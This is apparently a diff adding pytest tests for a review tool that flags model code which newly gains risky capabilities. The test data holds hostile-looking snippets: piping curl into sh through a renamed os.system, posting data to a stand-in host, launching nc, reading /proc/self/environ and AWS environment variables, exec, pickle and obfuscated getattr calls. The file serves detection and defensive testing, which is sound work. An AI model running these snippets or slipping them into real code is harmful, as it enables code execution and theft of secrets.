@@ -1,0 +1,83 @@
+"""New capabilities of models' code, whatever the length of the change."""
+
+import pytest
+
+from review.files.file_review import compare_files
+
+PATH = "models/a/b/1/model.py"
+BASE = """
+import json
+import os
+import numpy as np
+class TritonPythonModel:
+    def initialize(self, args):
+        \"\"\"See https://example.com/docs.\"\"\"
+        self.vocabulary = open(os.path.join(os.path.dirname(__file__), "vocabulary.txt"))
+    def execute(self, requests):
+        code = [np.asarray(request) for request in requests]
+        return code
+"""
+NEW = {
+    "network": ("import socket", "newly uses the network: socket in line 12"),
+    "host": (
+        'import requests\nrequests.post("https://collect.example.org/x", json=1)',
+        "; names the host: collect.example.org in line 13",
+    ),
+    "renamed import": (
+        "from os import system as refresh\nrefresh('curl -s x | sh')",
+        "newly runs programs: os.system in line 12, curl (os.system in line 13)",
+    ),
+    "program": (
+        "import subprocess\nsubprocess.run(['nc', '-l'])",
+        "nc (subprocess.run in line 13)",
+    ),
+    "exec": ("exec(json.loads('1'))", "newly runs code that it is given: exec in line 12"),
+    "pickle": ("import pickle", "newly runs code that it is given: pickle"),
+    "computed attribute": ("getattr(os, 'sys' + 'tem')('x')", "a computed attribute"),
+    "subclasses": ("().__class__.__base__.__subclasses__()", "__subclasses__"),
+    "environment": ("key = os.environ['AWS_CONTAINER']", "reads the environment: os.environ"),
+    "files": ("open('/proc/self/environ')", "uses files outside: /proc/self/environ in line 12"),
+    "native": ("import ctypes", "runs native code: ctypes"),
+}
+HARMLESS = {
+    "other names": "http = socket = eval_loss = 1\nhttp.get(socket)",
+    "longer": "\n".join(f"x{number} = np.zeros({number})" for number in range(80)),
+    "address in a text": "raise ValueError('see https://docs.example.com')",
+    "compiled pattern": "import re\nre.compile('a')",
+}
+
+
+def messages(before: dict[str, str], after: dict[str, str]) -> list[str]:
+    """Return message and details of the new capabilities between two sets of files."""
+    sides = ({path: text.encode() for path, text in side.items()} for side in (before, after))
+    return [
+        " ".join((danger.message, *danger.details))
+        for danger in compare_files(*sides).dangers
+        if danger.rule == "new_capabilities"
+    ]
+
+
+@pytest.mark.parametrize("title", NEW)
+def test_new_capability_is_a_danger(title: str) -> None:
+    added, text = NEW[title]
+    (message,) = messages({PATH: BASE}, {PATH: BASE + added})
+    assert message.startswith(f"{PATH}: the model's code newly ")
+    assert text in message
+    assert messages({PATH: BASE + added}, {PATH: BASE + added + "\n#"}) == []
+
+
+@pytest.mark.parametrize("title", HARMLESS)
+def test_code_without_a_new_capability(title: str) -> None:
+    assert messages({PATH: BASE}, {PATH: BASE + HARMLESS[title]}) == []
+
+
+def test_moved_code_has_no_new_capability() -> None:
+    code = f"{BASE}import socket"
+    assert messages({PATH: code}, {PATH: BASE, "models/a/b/1/client.py": "import socket"}) == []
+    assert messages({PATH: code}, {"models/renamed/b/1/model.py": code}) == []
+
+
+def test_native_file_and_pickled_objects() -> None:
+    files = {"models/a/b/1/libx.so": b"\x7fELF", "models/a/b/1/state.bin": b"\x80\x04"}
+    rules = [danger.rule for danger in compare_files({}, files).dangers]
+    assert rules.count("new_capabilities") == 2
